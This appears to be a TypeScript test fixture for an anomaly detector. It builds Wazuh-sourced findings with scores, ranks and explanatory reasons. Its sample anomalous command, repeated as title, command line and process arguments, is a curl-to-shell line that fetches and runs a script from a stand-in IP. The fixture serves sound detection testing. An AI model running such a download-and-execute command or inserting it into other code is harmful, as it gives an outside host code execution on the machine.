import type { Event, Finding, Reason } from '../../src/event/index.ts';

/** A finding of a strange command on a host, with whatever differs. */
export function finding(overrides: Partial<Finding> = {}, event: Partial<Event> = {}): Finding {
  const id = event.id ?? 'wazuh:manager:1767348672.1001';
  const command = "bash -c 'curl http://203.0.113.9/x | sh'";
  return {
    id: `lof:${id}`,
    time: Date.UTC(2026, 0, 2, 10, 11, 12),
    detector: 'lof',
    title: command,
    score: 2.314159,
    threshold: 1.5,
    pValue: 0.0002,
    rank: 1,
    entity: { type: 'host', name: 'web-1' },
    reasons: [
      reason('The nearest known command is "bash -c uptime", at distance 0.41, seen 212 times on 5 hosts.'),
      reason('The first time that www-data runs curl.'),
    ],
    count: 1,
    ...overrides,
    event: {
      id,
      time: Date.UTC(2026, 0, 2, 10, 11, 12),
      source: 'wazuh',
      kind: 'process',
      fields: {
        'host.name': 'web-1',
        'user.name': 'www-data',
        'process.command_line': command,
        'process.args': ['bash', '-c', 'curl http://203.0.113.9/x | sh'],
        'rule.level': 3,
      },
      raw: '{"rule":{"id":"80792"}}',
      ...event,
    },
  };
}

export function reason(text: string): Reason {
  return { code: 'nearest-known', text, evidence: { distance: 0.41, seen: 212 } };
}

/** Findings with ids and ranks of their own. */
export function findings(count: number): Finding[] {
  return Array.from({ length: count }, (_, i) =>
    finding({ rank: i + 1, score: 9 - i / 10, title: `command-${i + 1} --flag` }, { id: `event-${i + 1}` }),
  );
}
